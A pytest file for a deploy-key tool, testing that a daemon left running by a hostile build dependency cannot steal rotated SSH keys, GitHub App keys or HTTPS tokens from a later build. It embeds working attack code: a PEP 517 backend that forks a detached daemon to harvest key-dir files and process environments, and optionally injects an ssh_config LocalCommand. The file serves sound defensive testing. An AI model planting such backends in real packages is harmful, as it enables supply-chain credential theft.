"""A process left running by build N attacks build N+1 on the same machine, as the same user.

Build N's hostile private dependency (its PEP 517 backend, as in tests/attacks/test_hostile.py) forks a
daemon (double fork, setsid: it survives the build and its process group) that polls /dev/shm and
$TMPDIR for `deploykey-*` dirs and copies every file it can read there, and every process's
cmdline and environ, into a loot dir, until a stop file appears (or 120 s pass). Then the key is
ROTATED (the new key registered at the git server, the old one removed) and build N+1 runs on the
same machine in each mode: the new key, in every form, is in nothing the daemon copied. With the
deploy key held by an ssh-agent of deploykey's own (fed over a pipe), the key dir holds public
halves only; a GitHub App's key is handed to openssl over a pipe, never written; HTTPS tokens are
served from deploykey's memory to its own descendants only. A daemon that rewrites the key dir
instead fails the build (test_a_key_dir_changed_during_the_fetch_fails_the_build).

The daemon could still use the key through the agent's socket while the fetch runs (SECURITY.md
says so); it cannot take the key away, which is what these tests prove. Against the code before
(ba6181b), each of them failed: the daemon had copied the new key, App key or token file.
"""

from __future__ import annotations

import base64
import os
import secrets
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import (
    APP_ID,
    BIN,
    Build,
    GeneratedKey,
    GitHub,
    flit_package,
    key_dirs,
    key_fragments,
    make_key,
    text_has_key,
)
from support.githubapi import make_app_key
from support.gitserver import GitServer

UTILS = "private-utils @ git+ssh://git@github.com/acme/private-utils.git@v1.0"

# The daemon: copies what it can read of every deploykey-* dir and every process into
# $HOME/daemon-loot (one file per new thing seen), writes its pid to $HOME/daemon-pid, and stops
# when $HOME/daemon-stop appears.
LEFTOVER_BACKEND = r"""
import hashlib, os, time
from flit_core import buildapi as _flit

REWRITE = False  # also make ssh run a command of its own in every key dir's ssh_config

def _ours(key_dir, home):
    # Only the key dirs of this app's builds (their HOME is ours): other tests' builds run on
    # this machine at the same time. .owner names the build's pid ("held PID").
    owner = (_read(os.path.join(key_dir, ".owner")) or b"").split()
    environ = _read(f"/proc/{owner[-1].decode()}/environ") if owner else None
    return b"HOME=" + home.encode() + b"\0" in (environ or b"")

def _rewrite(config, home):
    # First values win in ssh_config: lines before the first Host apply to every connection.
    if not _ours(os.path.dirname(config), home):
        return False
    with open(config, "rb") as f:
        text = f.read()
    if b"LocalCommand" in text:
        return False
    ran = os.path.join(home, "daemon-ran-in-the-fetch")
    with open(config, "wb") as f:
        f.write(b"PermitLocalCommand yes\nLocalCommand touch " + ran.encode() + b"\n" + text)
    return True

def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return None

def _watch(home):
    loot = os.path.join(home, "daemon-loot")
    stop = os.path.join(home, "daemon-stop")
    os.makedirs(loot, exist_ok=True)
    seen = set()
    count = 0
    bases = ["/dev/shm", os.environ.get("TMPDIR") or "/tmp"]
    end = time.time() + 120
    rounds = 0
    while time.time() < end and not os.path.exists(stop):
        rounds += 1
        found = []
        for base in bases:
            try:
                names = os.listdir(base)
            except OSError:
                continue
            for name in names:
                # mkdtemp's names (the test machine's /tmp has other, large deploykey-* dirs)
                if not (name.startswith("deploykey-") and len(name) == 18):
                    continue
                for root, _dirs, files in os.walk(os.path.join(base, name)):
                    for file in files:
                        path = os.path.join(root, file)
                        if REWRITE and file == "ssh_config":
                            try:
                                if _rewrite(path, home):
                                    found.append(("rewrote " + path, b""))
                            except OSError:
                                pass
                        found.append((path, _read(path)))
        # Every process now and then: the key dirs (short-lived) are polled between.
        for pid in os.listdir("/proc") if rounds % 20 == 1 else ():
            if pid.isdigit():
                for what in ("cmdline", "environ"):
                    path = f"/proc/{pid}/{what}"
                    found.append((path, _read(path)))
        for path, data in found:
            if data is None:
                continue
            mark = hashlib.sha256(path.encode() + b"\0" + data).digest()
            if mark in seen:
                continue
            seen.add(mark)
            count += 1
            with open(os.path.join(loot, str(count)), "wb") as f:
                f.write(path.encode() + b"\n" + data)
        time.sleep(0.005)

def _fork_daemon():
    home = os.environ["HOME"]
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 65536)
    with open(os.path.join(home, "daemon-pid"), "w") as f:
        f.write(str(os.getpid()))
    try:
        _watch(home)
    finally:
        os._exit(0)

def build_wheel(*args, **kwargs):
    _fork_daemon()
    return _flit.build_wheel(*args, **kwargs)

get_requires_for_build_wheel = _flit.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _flit.prepare_metadata_for_build_wheel
"""


@dataclass(frozen=True)
class Daemon:
    home: Path

    @property
    def loot(self) -> Path:
        return self.home / "daemon-loot"

    @property
    def pid(self) -> int:
        return int((self.home / "daemon-pid").read_text())

    def alive(self) -> bool:
        try:
            state = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            return False
        return state != "Z"

    def stop(self) -> None:
        """The stop file, then (should it not end within 30 s) SIGKILL: never left running."""
        if not (self.home / "daemon-pid").exists():
            return
        (self.home / "daemon-stop").touch()
        for _ in range(600):
            if not self.alive():
                return
            time.sleep(0.05)
        os.kill(self.pid, signal.SIGKILL)

    def copied(self) -> list[Path]:
        return sorted(self.loot.iterdir(), key=lambda path: int(path.name))

    def saw_key_dir(self, name: str) -> bool:
        """It copied a file `name` from a key dir (proof that it reached build N+1's)."""
        return any(
            path.read_bytes().split(b"\n", 1)[0].endswith(f"/{name}".encode())
            and b"/deploykey-" in path.read_bytes().split(b"\n", 1)[0]
            for path in self.copied()
        )


def leftover_repo(git_server: GitServer, name: str, backend: str) -> str:
    if not (git_server.root / "repos" / "acme" / f"{name}.git").exists():
        git_server.add_repo(
            f"acme/{name}",
            {
                **flit_package(name, "1.0", backend="leftover_backend"),
                "leftover_backend.py": backend,
            },
        )
    return f"acme/{name}"


@pytest.fixture
def daemon(build: Build, keys_dir: Path, git_server: GitServer) -> Iterator[Daemon]:
    """Build N (bin/compile into a venv) installs the hostile dependency, whose daemon is left
    running; its key is then removed from the git server."""
    yield from planted(build, keys_dir, git_server, "leftover", LEFTOVER_BACKEND)


@pytest.fixture
def rewriting_daemon(build: Build, keys_dir: Path, git_server: GitServer) -> Iterator[Daemon]:
    """The same, and it also rewrites the ssh_config of every key dir it finds."""
    backend = LEFTOVER_BACKEND.replace("REWRITE = False", "REWRITE = True")
    yield from planted(build, keys_dir, git_server, "rewriter", backend)


def planted(
    build: Build, keys_dir: Path, git_server: GitServer, name: str, backend: str
) -> Iterator[Daemon]:
    repo = leftover_repo(git_server, name, backend)
    old = make_key(keys_dir)
    git_server.grant(old.label, old.public, [repo, "acme/private-utils"])
    build.set_key(old.text)
    (build.app / "requirements.txt").write_text(
        f"{name} @ git+ssh://git@github.com/{repo}.git@v1.0\n"
    )
    watcher = Daemon(build.home)
    try:
        first = build.compile(env=build.environ(STACK="heroku-24", DEPLOYKEY_INSTALL="venv"))
        assert first.returncode == 0, first.stdout + first.stderr
        assert watcher.alive(), "the daemon of build N runs on"
        git_server.revoke(old.label)
        yield watcher
    finally:
        watcher.stop()


def rotated(build: Build, keys_dir: Path, git_server: GitServer) -> GeneratedKey:
    """A new deploy key for private-utils (the old one was removed), and an app that needs it."""
    new = make_key(keys_dir)
    git_server.grant(new.label, new.public, ["acme/private-utils"])
    (build.app / "requirements.txt").write_text(UTILS + "\n")
    return new


def assert_nothing_copied(daemon: Daemon, secret: str, saw: str = "ssh_config") -> None:
    daemon.stop()
    seen = [p.read_bytes().split(b"\n", 1)[0] for p in daemon.copied()]
    assert daemon.saw_key_dir(saw), [p for p in seen if not p.startswith(b"/proc/")]
    assert not daemon.alive()
    fragments = key_fragments(secret)
    for path in daemon.copied():
        data = path.read_bytes()
        flat = data.replace(b"\r", b"").replace(b"\n", b"")
        assert not any(f in data or f in flat for f in fragments), data.split(b"\n", 1)[0]
        assert not text_has_key(data.decode("utf-8", "replace"), secret), path


def agents() -> set[str]:
    """ssh-agent processes whose command line names a key dir of deploykey's."""
    found = set()
    for pid in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if cmdline and cmdline[0].endswith(b"ssh-agent") and b"/deploykey-" in b" ".join(cmdline):
            found.add(pid)
    return found


def test_compile(build: Build, daemon: Daemon, keys_dir: Path, git_server: GitServer) -> None:
    new, before = rotated(build, keys_dir, git_server), key_dirs()
    build.set_key(new.text)
    result = build.compile(env=build.environ(STACK="heroku-24", DEPLOYKEY_INSTALL="venv"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Successfully installed private-utils-1.0" in result.stdout
    assert_nothing_copied(daemon, new.text)
    assert key_dirs() - before == set()
    assert agents() == set()


def test_app_hooks(build: Build, daemon: Daemon, keys_dir: Path, git_server: GitServer) -> None:
    """heroku-buildpack-python's hooks; the key in ENV_DIR (sub_env also exports config vars into
    the hook's environment, where deploykey cannot reach them: SECURITY.md)."""
    from support.app_hooks import hook_env, python_buildpack_pip, run_hook

    new = rotated(build, keys_dir, git_server)
    build.set_key(new.text)
    written = subprocess.run(
        [str(BIN / "deploykey"), "hooks", str(build.app)], capture_output=True, text=True
    )
    assert written.returncode == 0, written.stderr
    env = hook_env(build, None, STACK="heroku-24")
    pre = run_hook(build, "pre_compile", env)
    assert pre.returncode == 0, pre.stdout + pre.stderr
    pip = python_buildpack_pip(build)
    assert pip.returncode == 0, pip.stdout + pip.stderr
    post = run_hook(build, "post_compile", env)
    assert post.returncode == 0, post.stdout + post.stderr
    assert_nothing_copied(daemon, new.text)
    assert agents() == set()


def test_fetch(build: Build, daemon: Daemon, keys_dir: Path, git_server: GitServer) -> None:
    """`deploykey fetch` (the Docker example's first RUN), the key from a secret file."""
    new = rotated(build, keys_dir, git_server)
    result = subprocess.run(
        [str(BIN / "deploykey"), "fetch", "--cache-dir", str(build.cache)]
        + ["--key-file", str(new.path)],
        cwd=build.app,
        env=build.environ(),
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert_nothing_copied(daemon, new.text)
    assert agents() == set()


def test_ci_setup_and_cleanup(
    build: Build, daemon: Daemon, keys_dir: Path, git_server: GitServer
) -> None:
    """A CI job on a runner that build N's job left the daemon on: setup (the key from a file),
    the job's own pip, cleanup. setup keeps no key dir and no agent for the job's shell."""
    new = rotated(build, keys_dir, git_server)
    venv = build.root / "python"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    script = f"""
        set -euo pipefail
        eval "$({BIN}/deploykey setup --shell --cache-dir {build.cache} --key-file {new.path})"
        echo "agents: $(pgrep -c ssh-agent || true)"
        {venv}/bin/pip install --no-input -r requirements.txt
        eval "$({BIN}/deploykey cleanup --shell --key-file {new.path})"
    """
    result = subprocess.run(
        ["bash", "-c", script], cwd=build.app, env=build.environ(), capture_output=True, text=True
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Successfully installed private-utils-1.0" in result.stdout
    assert_nothing_copied(daemon, new.text)
    assert agents() == set()


def test_github_app(build: Build, daemon: Daemon, github: GitHub, tmp_path: Path) -> None:
    """Build N+1 with a GitHub App whose key was rotated: the App's key is in nothing the daemon
    copied (the tokens it minted are revoked when the fetch ends: SECURITY.md)."""
    from support.githubapp_builds import app_build, compile_app

    new_key = tmp_path / "rotated.private-key.pem"
    github.api.add_app(APP_ID, make_app_key(new_key))
    github.key.write_bytes(new_key.read_bytes())  # later tests of the module sign with this one
    app_build(build, github)
    before = len(github.api.tokens)
    result = compile_app(build, github)
    assert result.returncode == 0, result.stdout + result.stderr
    (token,) = github.minted_since(before)
    assert token.revoked
    assert_nothing_copied(daemon, github.key_text, saw="tokens")


def test_https_token(build: Build, daemon: Daemon) -> None:
    """Build N+1 fetches over HTTPS with a token (`tokens:` in deploykey.yml), a new one: deploykey
    serves it from its memory to its own descendants (git's credential helper); the daemon, no
    descendant, copies no token file (there is none) and is refused on the socket."""
    from support.httpserver import GitHttpServer
    from support.token_builds import token_build

    token = "ghp_" + secrets.token_hex(18)
    server = GitHttpServer.create("x-access-token", token)
    server.add_repo("acme/tokenlib", flit_package("tokenlib", "1.0"))
    server.start()
    try:
        requirement = f"tokenlib @ git+{server.url}/acme/tokenlib.git@v1.0"
        token_build(build, server, requirement, token)
        result = build.compile(env=build.environ(STACK="heroku-24", DEPLOYKEY_INSTALL="venv"))
    finally:
        server.stop()
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Successfully installed tokenlib-1.0" in result.stdout
    daemon.stop()
    assert daemon.saw_key_dir("tokens")
    forms = [token.encode(), base64.b64encode(token.encode())[4:24]]
    for path in daemon.copied():
        data = path.read_bytes()
        if f"GIT_PROJECT_ROOT={server.root}/repos".encode() in data:
            # The test's git server (git-http-backend under fcgiwrap, as root like the daemon):
            # nginx hands it the request's Authorization header as HTTP_AUTHORIZATION. On a real
            # build the server is GitHub's, not a process on the build machine.
            continue
        assert not any(form in data for form in forms), data.split(b"\n", 1)[0]


def test_the_agent_is_gone_after_a_signal_during_the_fetch(
    build: Build, utils_key: GeneratedKey, git_server: GitServer
) -> None:
    """SIGTERM while git fetches with the key: the agent (process and socket) goes with the key
    dir. (test_compile above: also after a build that succeeds.)"""
    from support.slow_builds import kill_leftovers, start_slow_fetch

    before, running = key_dirs(), agents()
    process = start_slow_fetch(build, utils_key, git_server)
    try:
        [key_dir] = key_dirs() - before
        during = agents() - running
        sockets = sorted(p.name for p in Path(key_dir).iterdir() if p.is_socket())
        process.send_signal(signal.SIGTERM)
        stdout, stderr = process.communicate(timeout=60)
    finally:
        kill_leftovers(build)
    assert process.returncode == 128 + signal.SIGTERM, stdout + stderr
    assert len(during) == 1 and sockets == ["agent.sock", "tokens.sock"]
    assert agents() - running == set()
    assert not Path(key_dir).exists()


def test_a_key_dir_changed_during_the_fetch_fails_the_build(
    build: Build, rewriting_daemon: Daemon, keys_dir: Path, git_server: GitServer
) -> None:
    """The daemon rewrites build N+1's ssh config while the fetch runs (a LocalCommand: its own
    command run by ssh, inside the fetch). deploykey cannot stop a process of the same user from
    writing its 0700 key dir, but it sees any change (ctime, inode) when the fetch ends: the build
    fails, names the file, discards the mirrors it fetched, and installs nothing."""
    new = rotated(build, keys_dir, git_server)
    build.set_key(new.text)
    result = build.compile(env=build.environ(STACK="heroku-24", DEPLOYKEY_INSTALL="venv"))
    rewriting_daemon.stop()
    seen = [p.read_bytes().split(b"\n", 1)[0] for p in rewriting_daemon.copied()]
    assert any(line.startswith(b"rewrote /") for line in seen), "the daemon rewrote a config"
    assert result.returncode == 1, result.stdout + result.stderr
    assert " !     Something changed deploykey's key dir while the fetch ran: ssh_config\n" in (
        result.stderr
    )
    assert "(keydir::tampered: README.md#keydir-tampered)" in result.stderr
    assert "Installing" not in result.stdout and "Successfully installed" not in result.stdout
    mirror = build.cache / "deploykey" / "mirrors" / "github.com" / "acme" / "private-utils.git"
    assert not mirror.exists()
    assert agents() == set()
    assert_nothing_copied(rewriting_daemon, new.text)
